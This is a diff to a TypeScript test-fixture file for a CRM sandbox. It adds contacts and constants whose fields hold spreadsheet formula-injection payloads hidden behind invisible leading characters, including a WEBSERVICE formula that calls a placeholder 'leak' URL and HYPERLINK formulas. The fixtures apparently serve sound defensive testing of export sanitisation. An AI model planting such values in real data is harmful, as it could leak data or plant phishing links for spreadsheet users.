@@ -6,7 +6,7 @@
  * non-decreasing with the id (spread over the ~3 years before `endMs`), so a date range is a
  * binary search over ids. Contacts changed at run time live in the store's overlay instead.
  *
- * Contacts 1..24 are hand-written so that even a tiny sandbox shows every hostile kind of value.
+ * Contacts 1..27 are hand-written so that even a tiny sandbox shows every hostile kind of value.
  */
 import { createRng, hash32 } from './random.ts';
 import type { Rng } from './random.ts';
@@ -75,9 +75,16 @@ const CURATED: Record<number, Properties> = {
     lifetime_value: '12,5', contract_renewal_date: '2023-02-30',
   },
   24: { firstname: 'Seán', lastname: "O'Neil-Ní Bhriain", email: "sean.o'neil+crm@example.com", company: 'Café Ünïcödé & Søns, Ltd.', city: 'Cork', country: 'Ireland' },
+  // invisible characters before a formula: a spreadsheet drops them and evaluates what follows
+  25: { firstname: 'Nora', lastname: 'Nullmann', company: '\u0000=HYPERLINK("http://example.com/x","Click")', jobtitle: '\u0000=1+2', city: 'Hamburg', country: 'Germany' },
+  26: {
+    firstname: 'Otto', lastname: 'Steuer', company: '\u0001=WEBSERVICE("http://example.com/leak")', jobtitle: '\u0007=1+2', city: '\u0008+1',
+    zip: '\u000b-5', website: '\u000c@SUM(A1)', country: '\u001b=1+2', mobilephone: '\u001f=1+2',
+  },
+  27: { firstname: 'Ida', lastname: 'Zeichen', company: '\ufeff=HYPERLINK("http://example.com/x","Click")', jobtitle: '\u200b=1+2', city: '\u00a0=1+2', country: '\u3000+1', zip: '\u200b\ufeff\u0000=1+2' },
 };
 
-/** Constants for E2E tests (present whenever the sandbox has at least 24 contacts). */
+/** Constants for E2E tests (present whenever the sandbox has at least 27 contacts). */
 export const KNOWN_CONTACTS = {
   /** Latin with accents and a well-known email */
   email: { id: '1', firstname: 'José', lastname: 'Álvarez', email: 'jose.alvarez@acme-sample.example', company: 'Acme Sample, Inc.' },
@@ -114,6 +121,21 @@ export const HOSTILE_CONTACTS = {
   emoji: { id: '15', property: 'company', value: 'Pizza 🍕 Palace' },
   rtl: { id: '17', property: 'lastname', value: 'العلي' },
   everything: { id: '23', property: 'company', value: 'Quote "Inc", Line\nBreak; Semi' },
+  // a control, format or Unicode space character before = + - @ (spreadsheets skip them)
+  nulEquals: { id: '25', property: 'company', value: '\u0000=HYPERLINK("http://example.com/x","Click")' },
+  nulFormula: { id: '25', property: 'jobtitle', value: '\u0000=1+2' },
+  sohEquals: { id: '26', property: 'company', value: '\u0001=WEBSERVICE("http://example.com/leak")' },
+  bellEquals: { id: '26', property: 'jobtitle', value: '\u0007=1+2' },
+  backspacePlus: { id: '26', property: 'city', value: '\u0008+1' },
+  verticalTabMinus: { id: '26', property: 'zip', value: '\u000b-5' },
+  formFeedAt: { id: '26', property: 'website', value: '\u000c@SUM(A1)' },
+  escapeEquals: { id: '26', property: 'country', value: '\u001b=1+2' },
+  unitSeparatorEquals: { id: '26', property: 'mobilephone', value: '\u001f=1+2' },
+  bomEquals: { id: '27', property: 'company', value: '\ufeff=HYPERLINK("http://example.com/x","Click")' },
+  zeroWidthSpaceEquals: { id: '27', property: 'jobtitle', value: '\u200b=1+2' },
+  noBreakSpaceEquals: { id: '27', property: 'city', value: '\u00a0=1+2' },
+  ideographicSpacePlus: { id: '27', property: 'country', value: '\u3000+1' },
+  invisibleRunEquals: { id: '27', property: 'zip', value: '\u200b\ufeff\u0000=1+2' },
 } as const;
 
 /**
